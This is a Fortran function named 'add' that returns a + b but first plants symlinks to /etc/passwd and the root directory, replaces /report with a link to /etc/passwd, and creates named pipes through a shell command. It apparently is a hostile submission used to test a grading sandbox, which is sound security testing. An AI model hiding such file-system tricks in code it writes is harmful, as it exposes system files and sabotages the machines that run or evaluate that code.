integer function add(a, b)
  integer, intent(in) :: a, b
  integer :: status
  call symlnk('/etc/passwd', '/tmp/link', status)
  call symlnk('/', '/box/link', status)
  call symlnk('loop', 'loop', status)
  call unlink('/report', status)
  call symlnk('/etc/passwd', '/report', status)
  call execute_command_line('mkfifo pipe /tmp/pipe1 /box/pipe /report 2>/dev/null')
  add = a + b
end function add
